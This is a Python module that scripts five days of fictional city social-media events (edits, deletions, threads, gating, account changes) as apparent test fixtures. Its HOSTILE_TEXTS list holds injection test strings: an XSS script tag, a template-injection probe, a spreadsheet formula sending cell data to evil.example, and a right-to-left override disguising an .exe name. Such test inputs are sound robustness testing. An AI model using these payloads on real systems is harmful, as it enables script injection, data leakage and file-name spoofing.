"""The script: the things that go wrong in five nights, each once at least, each remembered under a name.

The names are the keys of `City.story` and the `story` of an item in the truth file.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from samplecity import daily, phrases, records
from samplecity.accounts import BY_KEY, FEED_BY_KEY, SITE
from samplecity.ids import dice
from samplecity.images import picture
from samplecity.people import RESIDENT_BY_KEY

if TYPE_CHECKING:
    from samplecity.ledger import Ledger

SCRIPTED_NIGHTS = 5
DEEP_LEVELS = 14
HOSTILE_TEXTS = (
    "<script>alert('council')</script> & <b>bold</b> &lt;i&gt; {{ 7*7 }}",
    '=HYPERLINK("http://evil.example/?q="&A1,"Click here")',
    "Pay here: \u202egnp.exe\u202c \u200b\u200bzero width\ufeff",
    "line one\r\nline two\n\n\tand a tab",
)
RENAMED_HANDLE = "readinglibrary.laspalmasverdes.test"

# account key: days on which it says nothing and nobody answers it, first and last
_AWAY = {
    BY_KEY["ruiz"].did: (3, 3),
    BY_KEY["recreation"].did: (5, 10_000),
    BY_KEY["dialaride"].did: (5, 10_000),
    RESIDENT_BY_KEY["trevor-blount"].did: (4, 10_000),
    RESIDENT_BY_KEY["peggy-lund"].did: (3, 4),
}


def away(did: str, day: int) -> bool:
    """Tell whether an account is out of order on a day."""
    first, last = _AWAY.get(did, (0, -1))
    return first <= day <= last


def tell(ledger: Ledger, seed: int) -> None:
    """Write the whole script."""
    _edits(ledger)
    _deletions(ledger)
    _comments(ledger, seed)
    _references(ledger)
    _gates(ledger)
    _accounts(ledger)
    _feeds(ledger, seed)


def _city(key: str) -> str:
    return BY_KEY[key].did


def _resident(key: str) -> str:
    return RESIDENT_BY_KEY[key].did


def _edits(ledger: Ledger) -> None:
    park = ledger.post(_city("parks"), "Anza Park pool opens Saturday at 9. #ParksLPV", ledger.moment(-3, 10, 5))
    ledger.edit(park, ledger.moment(2, 11), text="CORRECTION: Anza Park pool opens Sunday at 10. #ParksLPV")
    ledger.note("edited", park)

    first = "Street sweeping fines are suspended until further notice."
    fines = ledger.post(_city("publicworks"), first, ledger.moment(1, 9, 12))
    ledger.edit(fines, ledger.moment(3, 9), text="Street sweeping fines resume on Monday.")
    ledger.edit(fines, ledger.moment(4, 16), text=first)
    ledger.note("edited_and_back", fines)

    boil = ledger.post(_city("water"), "Boil water notice for Mesa Dr until Tuesday.", ledger.moment(2, 8))
    ledger.edit(boil, ledger.moment(3, 9, 30), text="Boil water notice for ALL of the city until Tuesday.")
    ledger.edit(boil, ledger.moment(3, 9, 44), text="Boil water notice for Mesa Dr lifted. Thank you 💧")
    ledger.note("edited_twice_in_a_day", boil)

    shown, other = picture("clerk/flyer"), picture("clerk/flyer-corrected")
    flyer = ledger.post(_city("clerk"), "Notice of public hearing.", ledger.moment(1, 14), pictures=((shown, "Flyer"),))
    ledger.edit(
        flyer, ledger.moment(3, 10), embed=records.images(((shown, "Flyer: public hearing on rent, Nov 30 at 6"),))
    )
    ledger.note("alt_text_edited", flyer)
    ledger.pictures[_city("clerk"), other.cid] = other
    ledger.edit(flyer, ledger.moment(5, 10), embed=records.images(((other, "Flyer: hearing moved to Dec 2 at 6"),)))
    ledger.note("picture_replaced", flyer)

    profile = f"at://{_city('mayor')}/{records.PROFILE}/self"
    ledger.edit(
        profile, ledger.moment(4, 12), description="Mayor of Las Palmas Verdes. Candidate for re-election 2028."
    )
    ledger.note("profile_edited", profile)


def _deletions(ledger: Ledger) -> None:
    gone = ledger.post(_city("clerk"), "Council will meet in closed session about the landfill.", ledger.moment(-2, 15))
    under = ledger.post(_resident("dexter-poole"), "Closed? Why closed?", ledger.moment(-2, 16), under=gone)
    ledger.delete(gone, ledger.moment(3, 9, 5))
    ledger.note("deleted_post", gone)
    ledger.note("comment_under_deleted_post", under)

    root = ledger.post(_city("publicworks"), "Repaving of Harbor Blvd is done.", ledger.moment(1, 10))
    leaf = ledger.post(_resident("tasha-greene"), "Done? Half of it is mud.", ledger.moment(1, 11), under=root)
    ledger.delete(leaf, ledger.moment(2, 20))
    ledger.note("deleted_comment", leaf)
    branch = ledger.post(_resident("lamar-jefferson"), "Who signed off on this?", ledger.moment(1, 12), under=root)
    orphan = ledger.post(_resident("keiko-yamada"), "I have asked the same.", ledger.moment(1, 13), under=branch)
    ledger.delete(branch, ledger.moment(3, 8))
    ledger.note("deleted_comment", branch)
    ledger.note("orphaned_comment", orphan)

    story = ledger.post(_city("library"), "Story time is cancelled this week.", ledger.moment(-1, 9, 30))
    rkey = story.rpartition("/")[2]
    ledger.delete(story, ledger.moment(2, 9))
    at = ledger.moment(4, 9)
    ledger.put(_city("library"), records.POST, records.post("Story time is back on Thursday! 📚", at), at, rkey)
    ledger.note("recreated", story)

    blink = ledger.post(_city("police"), "Suspect sought near Mills Grove, armed.", ledger.moment(3, 13, 1))
    ledger.delete(blink, ledger.moment(3, 13, 20))
    ledger.note("never_observable", blink)
    flash = ledger.post(_resident("frank-abruzzo"), "I know who did it!", ledger.moment(4, 10), under=root)
    ledger.delete(flash, ledger.moment(4, 10, 2))
    ledger.note("never_observable", flash)


def _comments(ledger: Ledger, seed: int) -> None:
    rng = dice(seed, "story")
    old = ledger.post(
        _city("parks"), "Stevenson Meadow stays open until ten all winter.", ledger.moment(1 - daily.BACKLOG_DAYS, 12)
    )
    late = ledger.post(_resident("hal-petersen"), "It was locked at nine last night.", ledger.moment(4, 21), under=old)
    ledger.note("late_comment", late)
    ledger.note("late_comment", ledger.post(_city("parks"), "Fixed, sorry!", ledger.moment(5, 9), under=late))

    hot = ledger.post(
        _city("mayor"),
        "My budget keeps the library open on Sundays and fills 4,000 potholes. Read it: "
        f"{SITE}/budget @library.laspalmasverdes.test @publicworks.laspalmasverdes.test #Budget2027",
        ledger.moment(1, 8, 30),
    )
    ledger.note("busy_thread", hot)
    for night in (1, 2, 3):
        daily.comments(ledger, hot, BY_KEY["mayor"], ledger.moment(night, 10), rng, count=12, away=away)

    talkers = ("noa-levi", "amira-haddad")
    parent = ledger.post(_city("abad"), "Ask me anything about District 3, I answer all day.", ledger.moment(2, 8))
    ledger.note("deep_thread", parent)
    for level in range(DEEP_LEVELS):
        at = ledger.moment(2, 9, level * 4)
        if level % 2:
            text = phrases.fill(rng.choice(phrases.ANSWERS), rng, SITE)
            parent = ledger.post(_city("abad"), f"{text} ({level + 1})", at, under=parent)
        else:
            parent = daily.answer(ledger, RESIDENT_BY_KEY[talkers[level // 2 % 2]], parent, at, rng)
    ledger.note("deepest_comment", parent)

    for text in HOSTILE_TEXTS:
        at = ledger.moment(2, 19, len(ledger.story.get("hostile_text", ())))
        ledger.note("hostile_text", ledger.post(_resident("arvid-berg"), text, at, under=hot))

    part = ""
    for number, text in enumerate(("What is in Measure M:", "It pays for streets.", "It ends in 2034."), 1):
        part = ledger.post(_city("abad"), f"{number}/3 {text}", ledger.moment(3, 9, number), under=part)
        ledger.note("own_thread", part)


def _references(ledger: Ledger) -> None:
    pool = ledger.story["edited"][0]
    cross = ledger.post(_city("mayor"), "See you all at the pool! 🏊", ledger.moment(2, 12), under=pool)
    ledger.note("city_comment_on_city_post", cross)

    mural = ledger.post(
        _resident("marisol-vega"), "Our new mural at Parque Hemingway is finished 🎨", ledger.moment(1, 18)
    )
    ledger.note("city_comment_on_resident_post", ledger.post(
        _city("recreation"), "Beautiful work, thank you!", ledger.moment(2, 9, 40), under=mural
    ))  # fmt: skip
    ledger.note("answered_resident_post", mural)

    share = ledger.put(_city("abad"), records.REPOST, records.repost(ledger.ref(mural), ledger.moment(2, 13)), ledger.moment(2, 13))  # fmt: skip # noqa: E501 - one thought
    ledger.note("repost", share)
    taken_back = ledger.put(_city("mayor"), records.REPOST, records.repost(ledger.ref(mural), ledger.moment(2, 14)), ledger.moment(2, 14))  # fmt: skip # noqa: E501 - one thought
    ledger.delete(taken_back, ledger.moment(4, 8))
    ledger.note("repost_taken_back", taken_back)

    quote = ledger.post(_city("ruiz"), "Good correction. Sunday it is.", ledger.moment(2, 15), quoting=pool)
    ledger.note("quote_of_city_post", quote)
    rumor = ledger.post(_resident("oscar-villalobos"), "They are closing Fire Station 2!", ledger.moment(2, 17))
    answer = ledger.post(
        _city("fire"),
        "This is not true. Station 2 stays open.",
        ledger.moment(2, 18),
        quoting=rumor,
        pictures=((picture("fire/station2"), "Station 2, open, flag flying"),),
    )
    ledger.note("quote_of_resident_post", answer)
    ledger.delete(rumor, ledger.moment(3, 18))
    ledger.note("quoted_then_deleted", rumor)


def _gates(ledger: Ledger) -> None:
    works, rude = _city("publicworks"), _resident("arvid-berg")
    notice = ledger.post(works, "The yard on Mills Grove takes leaves again from Saturday.", ledger.moment(1, 15))
    insult = ledger.post(rude, "You people are useless.", ledger.moment(1, 16), under=notice)
    fair = ledger.post(_resident("tasha-greene"), "Useless is a word for it.", ledger.moment(1, 16, 20), under=notice)
    gone = ledger.post(rude, "And you know it.", ledger.moment(1, 16, 30), under=insult)
    ledger.gate_thread(notice, ledger.moment(2, 9), hidden=(insult, fair, gone))
    ledger.gate_thread(notice, ledger.moment(4, 9), hidden=(insult, gone))
    ledger.delete(gone, ledger.moment(4, 10))
    ledger.note("hidden_reply", insult)
    ledger.note("unhidden_reply", fair)
    ledger.note("hidden_reply_deleted", gone)

    closed = ledger.post(_city("police"), "Comments are closed during the operation.", ledger.moment(1, 17))
    ledger.gate_thread(closed, ledger.moment(1, 17, 1), allow=())
    barred = ledger.post(rude, "Why closed?", ledger.moment(2, 17), under=closed)
    ledger.gate_thread(closed, ledger.moment(3, 9), allow=("mention", "follower"))
    ledger.note("gate_changed", closed)
    ledger.note("barred_reply", barred)

    boast = ledger.post(_city("mayor"), "Every pothole on Harbor Blvd is filled.", ledger.moment(1, 18))
    mocking = ledger.post(rude, "Every single one, they say!", ledger.moment(2, 18), quoting=boast)
    ledger.gate_post(boast, ledger.moment(3, 10), detached=(mocking,))
    ledger.gate_post(boast, ledger.moment(5, 10), detached=(mocking,), closed=True)
    ledger.note("post_gated", boast)
    ledger.note("detached_quote", mocking)


def _accounts(ledger: Ledger) -> None:
    ledger.rename(_city("library"), RENAMED_HANDLE, ledger.moment(3, 7))
    ledger.note("renamed", _city("library"))
    ledger.rename(_resident("ben-aquino"), "ben.aquino.test", ledger.moment(2, 7))

    ledger.status(_city("ruiz"), "deactivated", ledger.moment(3, 6))
    ledger.status(_city("ruiz"), "active", ledger.moment(4, 6))
    ledger.note("deactivated_and_back", _city("ruiz"))
    ledger.status(_resident("peggy-lund"), "deactivated", ledger.moment(3, 6))
    ledger.status(_resident("peggy-lund"), "active", ledger.moment(5, 6))
    ledger.status(_resident("trevor-blount"), "deleted", ledger.moment(4, 6))
    ledger.status(_city("recreation"), "takendown", ledger.moment(5, 6))
    ledger.note("takendown", _city("recreation"))
    ledger.status(_city("dialaride"), "deleted", ledger.moment(5, 6))
    ledger.note("deleted_account", _city("dialaride"))
    for key in ("trevor-blount", "peggy-lund"):
        at = ledger.moment(1, 19)
        ledger.post(_resident(key), "I will leave this site soon.", at, under=ledger.story["busy_thread"][0])

    for number, (key, until) in enumerate((("arvid-berg", 0), ("frank-abruzzo", 4))):
        at = ledger.moment(2, 8, number)
        block = ledger.put(_city("elections"), records.BLOCK, records.block(_resident(key), at), at)
        if until:
            ledger.delete(block, ledger.moment(until, 8))
    ledger.note("blocks", _city("elections"))

    first = ledger.post(_city("elections"), "Hello! Voting places will be announced here.", ledger.moment(3, 12))
    ledger.note("first_post_of_an_empty_account", first)


def _feeds(ledger: Ledger, seed: int) -> None:
    rng = dice(seed, "story", "feeds")
    parks, clerk = FEED_BY_KEY["parks-news"], FEED_BY_KEY["clerk-notices"]
    entry = daily.feed_entry(ledger, parks, 9001, ledger.moment(1, 9), rng)
    ledger.amend(parks.key, entry, ledger.moment(3, 9), body=entry.body + " UPDATE: moved indoors because of rain.")
    ledger.note("entry_edited", entry.key)

    agenda = daily.feed_entry(ledger, clerk, 9002, ledger.moment(1, 10), rng)
    ledger.amend(clerk.key, agenda, ledger.moment(4, 10), title="REVISED: " + agenda.title)
    ledger.note("entry_retitled", agenda.key)

    bids = daily.feed_entry(ledger, clerk, 9003, ledger.moment(1, 11), rng)
    ledger.withdraw(clerk.key, bids.key, ledger.moment(2, 11))
    ledger.amend(clerk.key, bids, ledger.moment(4, 11), body="Bids for the landfill are re-opened until Friday.")
    ledger.note("entry_withdrawn_and_back", bids.key)

    silent = daily.feed_entry(ledger, parks, 9004, ledger.moment(2, 12), rng)
    ledger.withdraw(parks.key, silent.key, ledger.moment(3, 12))
    ledger.note("entry_withdrawn", silent.key)
